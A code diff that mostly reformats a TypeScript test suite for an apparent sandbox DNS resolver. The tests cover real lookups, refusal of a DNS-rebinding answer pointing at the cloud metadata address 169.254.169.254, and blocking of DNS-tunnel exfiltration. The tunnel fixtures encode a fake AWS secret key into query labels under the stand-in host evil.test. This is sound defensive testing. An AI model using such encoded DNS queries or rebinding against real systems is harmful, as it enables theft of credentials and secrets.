@@ -1,14 +1,24 @@
 import { Resolver } from 'node:dns/promises';
 import { describe, expect, test } from 'vitest';
 import { createResolver } from '../resolve/resolver.ts';
-import { a, aaaa, type Behaviour, cname, replyTo, type RunningNameServer, startNameServer } from '../resolve/testing/name-server.ts';
+import {
+  a,
+  aaaa,
+  type Behaviour,
+  cname,
+  replyTo,
+  type RunningNameServer,
+  startNameServer,
+} from '../resolve/testing/name-server.ts';
 import type { Refused, Resolution } from '../types.ts';
 import type { LookupRecord } from './lookup-record.ts';
 import type { NameTable } from './name-table.ts';
 import { contextWith } from './testing/context.ts';
 import { startService } from './testing/service.ts';
 
-/** The whole way: a client, the resolver of the box, the stub resolver of the host, and a name server of the test's own. */
+/**
+ * The whole way: a client, the resolver of the box, the stub resolver of the host, and a name server of the test's own.
+ */
 interface Chain extends AsyncDisposable {
   readonly client: Resolver;
   readonly names: NameTable;
@@ -22,9 +32,17 @@ interface ChainOptions {
   vet?(name: string, resolution: Resolution): Resolution | Refused;
 }
 
-async function startChain(behave: Behaviour, { kind = 'real', refusedNames = 'nxdomain', vet = (_, found) => found }: ChainOptions = {}): Promise<Chain> {
+async function startChain(
+  behave: Behaviour,
+  { kind = 'real', refusedNames = 'nxdomain', vet = (_, found) => found }: ChainOptions = {},
+): Promise<Chain> {
   const upstream = await startNameServer(behave);
-  const resolver = createResolver({ servers: [upstream.server], hostsFile: '/nonexistent', resolvConf: '/nonexistent', budget: 800 });
+  const resolver = createResolver({
+    servers: [upstream.server],
+    hostsFile: '/nonexistent',
+    resolvConf: '/nonexistent',
+    budget: 800,
+  });
   const context = contextWith({ refusedNames, mode: kind === 'fake' ? { kind } : { kind, resolver, vet } });
   const records: LookupRecord[] = [];
   const service = await startService({ context, record: (lookup) => records.push(lookup) });
@@ -38,16 +56,30 @@ async function startChain(behave: Behaviour, { kind = 'real', refusedNames = 'nx
 }
 
 const v6 = [0x2001, 0xdb8, 0, 0, 0, 0, 0, 1] as const;
-const honest: Behaviour = (asked) => [replyTo(asked, { records: asked.type === 'A' ? [cname('cdn.test'), a('192.0.2.1', { owner: 'cdn.test' })] : [aaaa(v6)] })];
-const codeOf = async (work: Promise<unknown>): Promise<string> => await work.then(() => 'found', (error: NodeJS.ErrnoException) => error.code ?? 'no code');
+const honest: Behaviour = (asked) => [
+  replyTo(asked, {
+    records: asked.type === 'A' ? [cname('cdn.test'), a('192.0.2.1', { owner: 'cdn.test' })] : [aaaa(v6)],
+  }),
+];
+const codeOf = async (work: Promise<unknown>): Promise<string> =>
+  await work.then(
+    () => 'found',
+    (error: NodeJS.ErrnoException) => error.code ?? 'no code',
+  );
 
 describe('real look-ups', () => {
   test('give the real addresses, and keep whose they are', async () => {
     await using chain = await startChain(honest);
     expect(await chain.client.resolve4('www.example.org')).toEqual(['192.0.2.1']);
     expect(await chain.client.resolve6('www.example.org')).toEqual(['2001:db8::1']);
-    expect([chain.names.namesOf('192.0.2.1'), chain.names.namesOf('2001:db8::1')]).toEqual([['www.example.org'], ['www.example.org']]);
-    expect(chain.upstream.asked.map(({ type, name }) => `${type} ${name}`).sort()).toEqual(['A www.example.org', 'AAAA www.example.org']);
+    expect([chain.names.namesOf('192.0.2.1'), chain.names.namesOf('2001:db8::1')]).toEqual([
+      ['www.example.org'],
+      ['www.example.org'],
+    ]);
+    expect(chain.upstream.asked.map(({ type, name }) => `${type} ${name}`).sort()).toEqual([
+      'A www.example.org',
+      'AAAA www.example.org',
+    ]);
   });
 
   test('of a name that does not exist, of a server that fails, and of one that is silent', async () => {
@@ -68,18 +100,34 @@ describe('real look-ups', () => {
     let turn = 0;
     const rebinding: Behaviour = (asked) => {
       turn += 1;
-      return [replyTo(asked, { records: asked.type === 'A' ? [a(turn <= 2 ? '192.0.2.1' : '169.254.169.254', { ttl: 0 })] : [] })];
+      return [
+        replyTo(asked, {
+          records: asked.type === 'A' ? [a(turn <= 2 ? '192.0.2.1' : '169.254.169.254', { ttl: 0 })] : [],
+        }),
+      ];
     };
-    const refusal: Refused = { kind: 'refused', refusal: { code: 'special-address', message: 'link-local', remedy: 'none' } };
-    await using chain = await startChain(rebinding, { vet: (_, found) => (found.addresses.some((address) => address.startsWith('169.254.')) ? refusal : found) });
+    const refusal: Refused = {
+      kind: 'refused',
+      refusal: { code: 'special-address', message: 'link-local', remedy: 'none' },
+    };
+    await using chain = await startChain(rebinding, {
+      vet: (_, found) => (found.addresses.some((address) => address.startsWith('169.254.')) ? refusal : found),
+    });
     expect(await codeOf(chain.client.resolve4('a.example.org'))).toBe('found');
     expect(await codeOf(chain.client.resolve4('a.example.org'))).toBe('ENOTFOUND');
     expect(chain.names.namesOf('169.254.169.254')).toEqual([]);
-    expect(chain.records[1]).toMatchObject({ outcome: 'refused', refusal: { code: 'special-address' }, verdict: { decision: 'allow' } });
+    expect(chain.records[1]).toMatchObject({
+      outcome: 'refused',
+      refusal: { code: 'special-address' },
+      verdict: { decision: 'allow' },
+    });
   });
 
   test('cannot borrow the fake address of another name', async () => {
-    await using chain = await startChain((asked) => [replyTo(asked, { records: asked.type === 'A' ? [a('198.18.0.2'), a('198.19.0.1')] : [] })], { refusedNames: 'explain' });
+    await using chain = await startChain(
+      (asked) => [replyTo(asked, { records: asked.type === 'A' ? [a('198.18.0.2'), a('198.19.0.1')] : [] })],
+      { refusedNames: 'explain' },
+    );
     expect(await chain.client.resolve4('secret.test')).toEqual(['198.18.0.2']);
     expect(await codeOf(chain.client.resolve4('a.example.org'))).toBe('ENODATA');
     expect(chain.names.namesOf('198.18.0.2')).toEqual(['secret.test']);
@@ -88,7 +136,11 @@ describe('real look-ups', () => {
 
 /** What tunnels through DNS put into questions (iodine, dnscat2, DNSExfiltrator and hand-made ones). */
 const secret = Buffer.from('AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG');
-const tunnels: readonly (readonly [string, string, 'A' | 'AAAA' | 'TXT' | 'MX' | 'CNAME' | 'NS' | 'SRV' | 'ANY' | 'CAA' | 'NAPTR' | 'SOA'])[] = [
+const tunnels: readonly (readonly [
+  string,
+  string,
+  'A' | 'AAAA' | 'TXT' | 'MX' | 'CNAME' | 'NS' | 'SRV' | 'ANY' | 'CAA' | 'NAPTR' | 'SOA',
+])[] = [
   ['hexadecimal labels', `${secret.toString('hex').slice(0, 60)}.evil.test`, 'A'],
   ['base64url labels', `${secret.toString('base64url')}.evil.test`, 'A'],
   ['labels of 63 letters', `${'a'.repeat(63)}.${'b'.repeat(63)}.${'c'.repeat(50)}.evil.test`, 'AAAA'],
@@ -123,6 +175,9 @@ describe.each(['fake', 'real'] as const)('with %s addresses nothing leaves by', 
 
 test('with fake addresses not even an allowed name leaves', async () => {
   await using chain = await startChain(honest, { kind: 'fake' });
-  for (let turn = 0; turn < 20; turn += 1) expect(await codeOf(chain.client.resolve4(`${secret.toString('hex').slice(turn, turn + 20)}.example.org`))).toBe('found');
+  for (let turn = 0; turn < 20; turn += 1)
+    expect(await codeOf(chain.client.resolve4(`${secret.toString('hex').slice(turn, turn + 20)}.example.org`))).toBe(
+      'found',
+    );
   expect(chain.upstream.asked).toEqual([]);
 });
